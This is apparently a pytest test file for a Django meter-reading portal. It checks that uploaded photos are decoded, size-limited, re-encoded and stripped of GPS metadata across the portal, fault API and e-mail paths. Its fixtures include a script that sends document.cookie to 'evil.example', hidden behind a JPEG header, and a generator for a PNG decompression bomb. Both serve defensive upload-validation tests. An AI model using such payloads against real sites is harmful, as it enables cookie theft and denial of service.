"""Files that are not the picture they claim to be, on every path a photo enters by.

Before: a photo was judged by its first bytes alone and kept as sent. A JPEG header
followed by a script was stored as evidence (and served to operators); a 30000 x 30000 PNG
of a few hundred kilobytes (a decompression bomb) was stored for whoever opened it; a
phone's GPS position rode along in its metadata; and a HEIC sent by e-mail as
application/octet-stream was not recognised.

Now every photo is decoded (Pillow, pillow-heif for HEIC) after its size in pixels is
checked, and what is kept is a copy encoded anew: upright, without metadata.
"""

from __future__ import annotations

import io
import zlib
from email.message import EmailMessage
from pathlib import Path
from struct import pack

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from imap_tools.message import MailMessage
from PIL import Image
from pytest_django.fixtures import Settings as SettingsWrapper

from autolettura.channels.email import email_receive
from autolettura.customers.models import Supply
from autolettura.readings.models import Reading
from autolettura.readings.photos import photo_check
from autolettura.rules.errors import FormatError
from autolettura.service.models import FaultReport
from tests import pictures
from tests.portal.support import DECEMBER_20, customer_with_supply, with_account

pytestmark = pytest.mark.django_db

SCRIPT = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
# A real JPEG's first segments, then a script instead of the picture.
JPEG_THEN_SCRIPT = pictures.JPEG[:20] + SCRIPT * 20
NOT_A_PICTURE_IT = "La foto del contatore deve essere un'immagine JPEG, PNG o HEIC."
TOO_MANY_PIXELS_IT = "La foto ha più di 64 milioni di pixel"


def png_bomb(width: int = 30000, height: int = 30000) -> bytes:
    """A valid grey PNG of width x height, all zeros: tiny on disk, 900 MB once decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return pack(">I", len(data)) + kind + data + pack(">I", zlib.crc32(kind + data))

    row = b"\x00" + b"\x00" * width  # filter byte, then the row's pixels
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return png_bomb()


def jpeg_with_gps_rotated() -> bytes:
    """A 64 x 48 JPEG whose EXIF says: rotate 90 degrees, taken at these GPS coordinates."""
    image = Image.new("RGB", (64, 48), (120, 120, 120))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90 degrees clockwise to show it upright
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = {1: "N", 2: (45.0, 30.0, 0.0), 3: "E", 4: (8.0, 36.0, 0.0)}
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif)
    return out.getvalue()


class TestPhotoCheck:
    def test_a_jpeg_header_followed_by_a_script_is_refused(self) -> None:
        with pytest.raises(FormatError) as caught:
            photo_check(io.BytesIO(JPEG_THEN_SCRIPT))

        assert [e.code for e in caught.value.errors] == ["photo_type_invalid"]

    def test_a_decompression_bomb_is_refused_before_it_is_decoded(self, bomb: bytes) -> None:
        assert len(bomb) < 2 * 1024 * 1024

        with pytest.raises(FormatError) as caught:
            photo_check(io.BytesIO(bomb))

        (error,) = caught.value.errors
        assert (error.code, error.params["megapixels"]) == ("photo_too_many_pixels", 64)

    def test_the_pixel_bound_is_a_setting(self, settings: SettingsWrapper) -> None:
        settings.AUTOLETTURA_PHOTO_MAX_MEGAPIXELS = 1
        big = pictures.picture("png", size=(1200, 1000))

        with pytest.raises(FormatError):
            photo_check(io.BytesIO(big))
        assert photo_check(io.BytesIO(pictures.picture("png", size=(1000, 1000)))).name

    def test_the_copy_kept_is_upright_and_has_no_metadata(self) -> None:
        kept = photo_check(io.BytesIO(jpeg_with_gps_rotated()))

        data = kept.read()
        with Image.open(io.BytesIO(data)) as image:
            assert image.size == (48, 64)  # the orientation applied
            assert dict(image.getexif()) == {}
        assert b"PhoneMaker" not in data

    def test_a_heic_is_recognised_by_content_and_kept_as_a_jpeg(self) -> None:
        kept = photo_check(
            SimpleUploadedFile("IMG_0001.bin", pictures.HEIC, "application/octet-stream")
        )

        assert kept.name == "meter.jpg"
        assert pictures.describe(kept.read()) == ("JPEG", (64, 48))


@pytest.fixture
def mine() -> Supply:
    return customer_with_supply()


@pytest.fixture
def owner(mine: Supply) -> Client:
    client = Client()
    client.force_login(
        with_account(mine), backend="autolettura.portal.backends.EmailOrUsernameBackend"
    )
    return client


@pytest.fixture(autouse=True)
def _media(settings: SettingsWrapper, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path


class TestEveryPath:
    def test_the_portal_refuses_a_script_with_a_clear_message_and_keeps_the_form(
        self, owner: Client, mine: Supply
    ) -> None:
        response = owner.post(
            "/area-clienti/comunica-la-lettura/",
            {
                "supply": mine.supply_code,
                "reading": "00042",
                "read_on": "20/12/2026",
                "photo": SimpleUploadedFile("contatore.jpg", JPEG_THEN_SCRIPT, "image/jpeg"),
            },
        )

        assert response.status_code == 200
        assert response.context["form"].errors["photo"] == [NOT_A_PICTURE_IT]
        assert response.context["form"]["reading"].value() == "00042"
        assert not Reading.objects.exists()

    def test_the_portal_refuses_a_bomb_saying_why(
        self, owner: Client, mine: Supply, bomb: bytes
    ) -> None:
        response = owner.post(
            "/area-clienti/comunica-la-lettura/",
            {
                "supply": mine.supply_code,
                "reading": "00042",
                "read_on": "20/12/2026",
                "photo": SimpleUploadedFile("contatore.png", bomb, "image/png"),
            },
        )

        assert response.status_code == 200
        (message,) = response.context["form"].errors["photo"]
        assert message.startswith(TOO_MANY_PIXELS_IT)
        assert not Reading.objects.exists()

    def test_the_fault_api_refuses_a_script_and_keeps_the_report(self, db: None) -> None:
        api = Client()
        report = api.post(
            "/api/v1/faults",
            {"category": "leak", "address": "Via Roma 1", "contact_phone": "3471234567"},
            content_type="application/json",
        ).json()

        response = api.post(
            f"/api/v1/faults/{report['ticket']}/photo",
            {
                "contact": "3471234567",
                "photo": SimpleUploadedFile("leak.jpg", JPEG_THEN_SCRIPT, "image/jpeg"),
            },
        )

        assert response.status_code == 422
        assert response.json()["errors"][0]["code"] == "photo_type"
        assert not FaultReport.objects.get().photo

    def test_the_fault_api_keeps_a_copy_without_metadata(self, db: None) -> None:
        api = Client()
        report = api.post(
            "/api/v1/faults",
            {"category": "leak", "address": "Via Roma 1", "contact_phone": "3471234567"},
            content_type="application/json",
        ).json()

        response = api.post(
            f"/api/v1/faults/{report['ticket']}/photo",
            {
                "contact": "3471234567",
                "photo": SimpleUploadedFile("leak.jpg", jpeg_with_gps_rotated(), "image/jpeg"),
            },
        )

        assert response.status_code == 200, response.content
        with FaultReport.objects.get().photo.open("rb") as kept:
            data = kept.read()
        assert b"PhoneMaker" not in data
        assert pictures.describe(data) == ("JPEG", (48, 64))

    def test_an_e_mail_heic_sent_as_octet_stream_is_kept_with_the_reading(
        self, mine: Supply
    ) -> None:
        mail = EmailMessage()
        mail["From"] = "Giulia Ferrari <giulia@example.org>"
        mail["To"] = "letture@acquedivalmora.example"
        mail["Subject"] = "Lettura contatore"
        mail["Message-ID"] = "<heic-1@example.org>"
        mail["Date"] = "Sun, 20 Dec 2026 10:00:00 +0100"
        mail.set_content(
            f"Codice utenza {mine.supply_code}, codice utente {mine.holder.customer_code}, "
            "lettura 00042 del 20/12/2026."
        )
        mail.add_attachment(
            pictures.HEIC, maintype="application", subtype="octet-stream", filename="IMG_1.HEIC"
        )

        email_receive(message=MailMessage.from_bytes(mail.as_bytes()), now=DECEMBER_20)

        reading = Reading.objects.get()
        assert reading.photo.name.endswith(".jpg")
        with reading.photo.open("rb") as kept:
            assert pictures.describe(kept.read()) == ("JPEG", (64, 48))
